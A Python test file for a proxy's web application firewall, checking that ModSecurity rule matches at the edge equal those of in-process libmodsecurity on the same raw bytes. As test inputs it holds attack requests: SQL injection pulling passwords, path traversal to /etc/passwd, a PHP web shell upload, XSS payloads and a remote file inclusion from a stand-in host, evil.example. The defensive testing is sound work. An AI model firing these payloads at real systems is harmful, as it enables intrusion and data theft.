"""The edge hands ModSecurity exactly the request it received: same matches as in-process.

A few requests that stress the hand-off (repeated headers, chunked and
multipart bodies, JSON, bytes that are not UTF-8, a body over the limit) go
through a real edge in detect mode at paranoia 4 as raw bytes; the matched
rule ids of each event must equal those of libmodsecurity run in-process on
the same bytes with the same rule set (the corpus in bench/ does this at
scale).
"""

from __future__ import annotations

import asyncio

from ferry.model.machine_waf import WafConfig
from ferry.proxy.routes import RouteTable
from ferry.waf.engine import ModSecurityCore, WafRequest, config_key
from ferry.waf.workers import WorkerEngine

from .harness import TableBox, backend_entry, backends, run, running_proxy

CONFIG = WafConfig(mode="detect", paranoia=4, body_limit=2048)
HOST = b"Host: web.ferry.test\r\n"
MULTIPART = (
    b'--XyZ\r\nContent-Disposition: form-data; name="file"; filename="shell.php"\r\n'
    b"Content-Type: application/x-php\r\n\r\n<?php system($_GET['c']); ?>\r\n--XyZ--\r\n"
)
JSON = b'{"user": "admin\' OR 1=1 --", "tags": ["<svg onload=alert(1)>"]}'
LONG = b"a=" + b"b" * 4000 + b"&c=%3Cscript%3Ealert(1)%3C/script%3E"
REQUESTS = [
    b"GET /?q=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1\r\n" + HOST
    + b"User-Agent: sqlmap/1.7\r\nAccept: */*\r\nX-A: 1\r\nX-A: 2\r\n\r\n",
    b"GET /static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd?x=%ff%fe HTTP/1.1\r\n" + HOST
    + b"Accept: */*\r\nX-Odd: \xff\xfe\r\nCookie: a=1; a=<script>\r\n\r\n",
    b"POST /upload HTTP/1.1\r\n" + HOST + b"User-Agent: Mozilla/5.0\r\n"
    + b"Content-Type: multipart/form-data; boundary=XyZ\r\nContent-Length: %d\r\n\r\n"
    % len(MULTIPART) + MULTIPART,
    b"POST /api HTTP/1.1\r\n" + HOST + b"User-Agent: curl/8.5\r\nContent-Type: application/json\r\n"
    + b"Transfer-Encoding: chunked\r\n\r\n"
    + b"%x\r\n%s\r\n%x\r\n%s\r\n0\r\n\r\n" % (10, JSON[:10], len(JSON) - 10, JSON[10:]),
    b"POST /form HTTP/1.1\r\n" + HOST + b"User-Agent: Mozilla/5.0\r\n"
    + b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n"
    % len(LONG) + LONG,
    b"GET /index.php?page=http://evil.example/shell.txt? HTTP/1.0\r\n" + HOST + b"\r\n",
]  # fmt: skip


def split(raw: bytes) -> tuple[bytes, bytes, str, tuple[tuple[bytes, bytes], ...], bytes]:
    """Method, target, version, headers and the de-chunked body of a raw request."""
    head, _, body = raw.partition(b"\r\n\r\n")
    line, *fields = head.split(b"\r\n")
    method, target, version = line.split(b" ")
    headers = tuple(tuple(f.split(b": ", 1)) for f in fields)
    if any(n.lower() == b"transfer-encoding" for n, _ in headers):
        chunks, rest = [], body
        while True:
            size_line, _, rest = rest.partition(b"\r\n")
            size = int(size_line, 16)
            if not size:
                break
            chunks.append(rest[:size])
            rest = rest[size + 2 :]
        body = b"".join(chunks)
    return method, target, version.decode()[5:], headers, body  # type: ignore[return-value]


def test_the_edge_matches_what_modsecurity_matches_on_the_same_bytes() -> None:
    core = ModSecurityCore()
    expected: list[tuple[int, ...]] = []
    seen: list[tuple[int, ...]] = []

    async def scenario() -> None:
        async with backends("app") as (app,):
            box = TableBox()
            box.set(backend_entry("m1", "ams", app))
            box.table = RouteTable(2, box.table.apps, {}, {"web": CONFIG})
            async with running_proxy(box, waf_engine=WorkerEngine(1)) as proxy:
                assert proxy.waf is not None and proxy.http_address is not None
                for _ in range(100):
                    await proxy.waf.settled()
                    if proxy.http.waf is not None:
                        break
                    await asyncio.sleep(0.05)
                for raw in REQUESTS:
                    reader, writer = await asyncio.open_connection(*proxy.http_address)
                    client_port = writer.get_extra_info("sockname")[1]
                    writer.write(raw)
                    head = await reader.readuntil(b"\r\n\r\n")
                    writer.close()
                    assert head.startswith((b"HTTP/1.1 200", b"HTTP/1.0 200")), head
                    method, target, version, headers, body = split(raw)
                    request = WafRequest(
                        "ref", ("127.0.0.1", client_port), proxy.http_address,
                        method, target, version, headers, body,
                    )  # fmt: skip
                    txn, status = core.request(config_key(CONFIG), request)
                    expected.append(core.finish(txn, status, None).rule_ids)
                for _ in range(100):
                    if len(proxy.waf_events.events) == len(REQUESTS):
                        break
                    await asyncio.sleep(0.05)
                seen.extend(tuple(e.rule_ids) for e in proxy.waf_events.events)

    run(scenario(), timeout=90)
    assert all(expected), "every request of this sample matches some rule"
    # The edge also ran the response-header phase; the backend's plain headers match nothing.
    assert seen == expected
